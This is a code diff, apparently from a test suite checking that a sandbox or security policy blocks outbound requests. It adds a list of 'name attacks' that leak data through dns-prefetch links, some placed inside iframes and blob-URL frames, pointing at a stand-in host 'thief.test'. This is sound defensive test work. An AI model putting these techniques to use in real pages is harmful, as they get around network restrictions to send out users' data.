@@ -50,7 +50,8 @@ export function requestAttacks({ address }: Listener): readonly NetworkAttack[] 
     {
       name: 'script',
       code: tried(
-        `const script = document.createElement('script'); script.onload = script.onerror = done; script.src = '${to('script')}'; document.head.append(script);`,
+        `const script = document.createElement('script'); script.onload = script.onerror = done;
+        try { script.src = '${to('script')}'; document.head.append(script); } catch { done(); }`,
       ),
     },
     {
@@ -75,4 +76,25 @@ export function peerAttacks({ stunPort, turnPort }: Listener): readonly NetworkA
       ),
     },
   ];
+}
+
+/** Ways to have a name looked up that tells something; each asks for the name of its own below `thief.test`. */
+export const nameAttacks: readonly NetworkAttack[] = [
+  { name: 'a link', code: lookedUp('document', 'a-link') },
+  {
+    name: 'a link in a frame',
+    code: `{ const frame = document.createElement('iframe'); document.body.append(frame);
+      ${lookedUp('frame.contentDocument', 'a-link-in-a-frame')} }`,
+  },
+  {
+    name: 'a link in a frame of its own markup',
+    code: `{ const frame = document.createElement('iframe');
+      const markup = '<link rel="dns-prefetch" href="https://a-link-in-a-frame-of-its-own-markup.thief.test">';
+      frame.src = URL.createObjectURL(new Blob([markup], { type: 'text/html' })); document.body.append(frame); }`,
+  },
+];
+
+function lookedUp(document: string, name: string): string {
+  return `${document}.head.append(Object.assign(${document}.createElement('link'),
+    { rel: 'dns-prefetch', href: 'https://${name}.thief.test' }));`;
 }
